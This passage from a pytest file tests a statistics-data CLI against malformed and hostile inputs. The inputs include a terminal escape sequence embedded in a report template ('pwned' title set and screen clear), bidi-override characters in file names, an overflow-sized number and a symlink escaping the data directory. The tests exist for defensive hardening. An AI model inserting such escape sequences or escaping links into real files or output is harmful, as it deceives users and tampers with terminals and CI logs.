    an internal error (NumberError)."""
    edit = history / "data" / "d.csv"
    edit.write_text(edit.read_text(encoding="utf-8").replace("so-luong,90,2022,120", "so-luong,90,2022,1e999999999"),
                    encoding="utf-8")
    commit(history, "a bad value")
    edit.write_text(edit.read_text(encoding="utf-8").replace("1e999999999", "0." + "1" * 45), encoding="utf-8")
    for fmt in ("text", "json"):
        r = run("log", "so-luong", "-f", fmt, cwd=history)
        assert r.returncode == 0 and "1e999999999" in r.stdout, r.stderr


def test_json_outputs_write_invisible_characters_as_escapes(tmp_path):
    """Found by the fuzz test of histories: a bidi override in a file name reached the terminal raw
    through `--format json` (JSON escapes ESC, not U+202E)."""
    plan = PLAN.replace("name: Tỷ lệ", "name: Tỷ lệ\u202e lật")
    root = write_repo(tmp_path, plans={"demo.yaml": plan}, data={"d\u202e.csv": HEADER + "ti-le,99,2022,85,,,s,\n"})
    for args in (("check", "-f", "json"), ("report", "-f", "json")):
        r = run(*args, cwd=root)
        assert "\u202e" not in r.stdout, (args, r.stdout[-500:])  # (in the plan: a bad-character, read as a space)
    assert "\\u202e" in run("check", "-f", "json", cwd=root).stdout
    assert json.loads(run("check", "-f", "json", cwd=root).stdout)[0]["file"] == "data/d\u202e.csv"


@pytest.mark.parametrize("name, fmt", [("report.md.j2", "md"), ("report.html.j2", "html")])
def test_a_repository_template_cannot_print_control_characters(repo, name, fmt):
    """A template's string literals can hold any character (`"\\x1b"` is ESC to Jinja): the output
    of `report`, which CI prints into its log, holds no control character nor bidi override."""
    (repo / "templates").mkdir()
    (repo / "templates" / name).write_text('a{{ "\\x1b]0;pwned\\x07\\x1b[2J" }}b{{ "\\u202e" }}c\n', encoding="utf-8")
    r = run("report", "-f", fmt, cwd=repo)
    assert r.returncode == 0 and r.stdout.startswith("a") and "c" in r.stdout, r.stderr
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e]", r.stdout), repr(r.stdout)


def test_a_flood_of_bad_rows_in_a_form_is_counted(tmp_path):
    root = write_repo(tmp_path / "repo")
    form = import_csv(tmp_path, "".join(f"so-luong,901,2022,x{i},s,\n" for i in range(300)))
    r = run("import", "--lang", "en", str(form), cwd=root)
    assert r.returncode == 1 and r.stdout.count("error[non-canonical-number]") == 100, r.stdout[-500:]
    assert "… and 200 more `non-canonical-number` errors in" in r.stdout


def test_a_form_with_a_bad_cell_and_a_link_on_the_way_says_both(tmp_path):
    """A problem of a workbook's cell (CellProblem) and one of data/ (import-path) did not sort
    together: an internal error."""
    from openpyxl import load_workbook

    root = write_repo(tmp_path / "repo")
    form = tmp_path / "bieu.xlsx"
    assert run("form", "demo", "--year", "2022", "-o", str(form), cwd=root).returncode == 0
    wb = load_workbook(form)
    ws = wb["Số liệu"]
    rows = {(r[0].value, r[1].value): r[0].row for r in ws.iter_rows(min_row=3)}
    ws.cell(row=rows[("ti-le", "90")], column=4).value = 86  # data/d.csv has 85: figure-conflict
    ws.cell(row=rows[("ti-le", "901")], column=4).value = 80  # a new figure, for data/2022
    wb.save(form)
    (tmp_path / "outside").mkdir()
    (root / "data" / "2022").symlink_to(tmp_path / "outside")
    r = run("import", str(form), cwd=root)
    assert r.returncode == 1 and said("import-path", r.stdout) and said("figure-conflict", r.stdout), r.stdout + r.stderr
